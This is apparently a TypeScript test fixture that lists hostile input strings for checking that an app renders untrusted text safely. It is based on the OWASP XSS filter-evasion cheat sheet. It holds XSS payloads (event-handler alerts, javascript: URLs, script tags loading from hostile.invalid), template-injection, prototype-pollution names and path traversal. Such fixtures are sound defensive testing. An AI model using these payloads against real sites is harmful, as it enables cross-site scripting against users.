/** In each text that would do something if it were read as more than text: an element, a dialog, or a request of this name. */
export const TRACE = 'hostile'

/**
 * Texts that make an element, a dialog, a request, or a broken page, where they are read as markup, attribute, script,
 * style, address, template or property name. After the OWASP cheat sheet on XSS filter evasion, and what JSON and
 * JavaScript do with special names.
 */
export const hostileTexts: readonly string[] = [
  '<img src="/hostile-image" onerror="alert(1)" data-hostile>',
  '<script data-hostile>alert(2)</script>',
  '<script src="http://hostile.invalid/x.js"></script>',
  '"><svg data-hostile onload=alert(3)>',
  "'><iframe data-hostile srcdoc=\"<script>parent.alert(4)</script>\"></iframe>",
  '</script><script data-hostile>alert(5)</script>',
  '</style><img data-hostile src=/hostile-style>',
  '</textarea></title></noscript><a data-hostile href="javascript:alert(6)">hostile</a>',
  'javascript:alert(7)//hostile',
  'data:text/html,<script>alert(8)</script>',
  '" onmouseover="alert(9)" data-hostile="',
  '` onfocus=alert(10) autofocus data-hostile ',
  '{{constructor.constructor("alert(11)")()}} hostile',
  ['$', '{alert(12)} hostile'].join(''),
  '<math><mi data-hostile xlink:href="data:x,<script>alert(13)</script>">',
  '<template data-hostile><img src=/hostile-template></template>',
  '<base data-hostile href="http://hostile.invalid/">',
  '<meta data-hostile http-equiv=refresh content="0;url=http://hostile.invalid/">',
  '<link data-hostile rel=stylesheet href="http://hostile.invalid/x.css">',
  '<form data-hostile action="http://hostile.invalid/"><button>hostile</button></form>',
  'url(http://hostile.invalid/x.png)',
  'red;background:url(/hostile-background)',
  '\u202Eelitsoh\u202C \u0000 \u200B hostile',
  '\uD800 hostile',
  '__proto__',
  'constructor',
  'toString',
  '<hostile-element data-hostile>',
  '&lt;img data-hostile src=/hostile-entity&gt;',
  '%3Cimg data-hostile src=/hostile-encoded%3E',
  '../../../hostile',
  `hostile${'W'.repeat(5_000)}`,
  `hostile ${'long words '.repeat(500)}`,
  '\n\r\n\thostile: x\n\ndata: hostile\n\n'
]

/** Cycles through them. */
export function hostileSequence (start = 0): () => string {
  let i = start
  return () => hostileTexts[i++ % hostileTexts.length] ?? ''
}
